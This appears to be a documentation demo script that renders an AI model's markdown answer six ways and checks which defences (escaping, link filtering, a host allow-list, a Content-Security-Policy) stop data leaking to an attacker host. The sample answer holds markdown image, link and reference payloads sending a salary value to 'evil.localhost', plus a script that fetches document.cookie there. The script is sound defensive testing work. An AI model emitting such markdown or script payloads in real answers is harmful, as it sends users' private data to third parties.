# needs: chromium
# A model's answer as a page: one image, and the reader's data are gone.
import os
import re
import socket
import threading
from urllib.parse import urlparse

import markdown
import uvicorn
from markdown.extensions import Extension
from markdown.treeprocessors import Treeprocessor
from playwright.sync_api import sync_playwright
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

sock = socket.create_server(("127.0.0.1", 0))
PORT = sock.getsockname()[1]
APP, EVIL = f"http://app.localhost:{PORT}", f"http://evil.localhost:{PORT}"
heard = []

# --8<-- [start:answer]
ANSWER = f"""Your contract ends in March.

![chart]({EVIL}/image?d=salary-91000) ![more][r] [Details]({EVIL}/link?d=salary-91000)
<script>fetch("{EVIL}/script?d=" + document.cookie)</script>

[r]: {EVIL}/reference?d=salary-91000
"""  # (1)!


def escaped(text):
    return markdown.markdown(text.replace("<", "&lt;"))


def inline_filtered(text):  # (2)!
    return escaped(re.sub(rf"!?\[([^\]]*)\]\({EVIL}[^)]*\)", r"\1", text))


class OurHosts(Treeprocessor):  # (3)!
    def run(self, root):
        for node in root.iter():
            for name in {"src", "href"} & set(node.attrib):
                if urlparse(node.get(name)).hostname != "app.localhost":
                    del node.attrib[name]


class Links(Extension):
    def extendMarkdown(self, md):
        md.treeprocessors.register(OurHosts(md), "our-hosts", 0)


def hosts_allowed(text):
    return markdown.markdown(text.replace("<", "&lt;"), extensions=[Links()])


CSP = {"Content-Security-Policy": "default-src 'none'; img-src 'self'"}  # (4)!
WAYS = {"as it came": (markdown.markdown, {}), "tags escaped": (escaped, {}),
        "inline links filtered": (inline_filtered, {}),
        "hosts allowed": (hosts_allowed, {}), "only a CSP": (markdown.markdown, CSP),
        "hosts allowed and CSP": (hosts_allowed, CSP)}
# --8<-- [end:answer]


def page(request):
    render, headers = list(WAYS.values())[int(request.query_params["way"])]
    return HTMLResponse(render(ANSWER), headers=headers)


def listen(request):
    heard.append(request.url.path)
    return Response(b"", headers={"Access-Control-Allow-Origin": "*"})


app = Starlette(routes=[Route("/answer", page), Route("/{rest:path}", listen)])
server = uvicorn.Server(uvicorn.Config(app, log_level="critical"))
threading.Thread(target=server.run, args=([sock],), daemon=True).start()
with sync_playwright() as play:
    browser = play.chromium.connect_over_cdp(os.environ["CHROMIUM_URL"])
    view = browser.new_page()
    for way, name in enumerate(WAYS):
        heard.clear()
        view.goto(f"{APP}/answer?way={way}", wait_until="networkidle")
        without_click = sorted(set(heard) - {"/favicon.ico"})
        link = view.locator(f"a[href^='{EVIL}']").count()
        print(f"{name}: sent by {' '.join(without_click) or 'nothing'}, links {link}")
assert not without_click and not link
